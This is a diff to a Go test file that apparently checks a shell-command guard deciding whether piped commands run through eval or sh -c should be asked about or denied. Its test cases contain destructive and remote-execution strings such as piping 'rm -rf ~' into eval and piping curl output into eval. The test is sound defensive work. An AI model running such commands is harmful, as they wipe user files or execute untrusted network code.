@@ -26,7 +26,10 @@ func TestSubstReadsPipedScript(t *testing.T) {
 		// run time knows: text made from the pipe, which asks; $(cat) in
 		// a block is the piped text (found attacking the fix).
 		{`echo 'rm -rf ~' | eval "$(head -n 99)"`, "ask"},
-		{`echo 'rm -rf ~' | eval "$(cat /dev/stdin)"`, "ask"},
+		// cat /dev/stdin copies the stage's pipe: its known text is
+		// the script (stdinconsumers.go, outerStageCopy).
+		{`echo 'rm -rf ~' | eval "$(cat /dev/stdin)"`, "deny"},
+		{`git log | eval "$(cat /dev/stdin)"`, "ask"},
 		{`echo 'rm -rf ~' | sh -c "$(< /dev/fd/0)"`, "ask"},
 		{`curl -s https://example.com/x | eval "$(</dev/stdin)"`, "ask"},
 		{`git log | eval "$(cat)"`, "ask"},
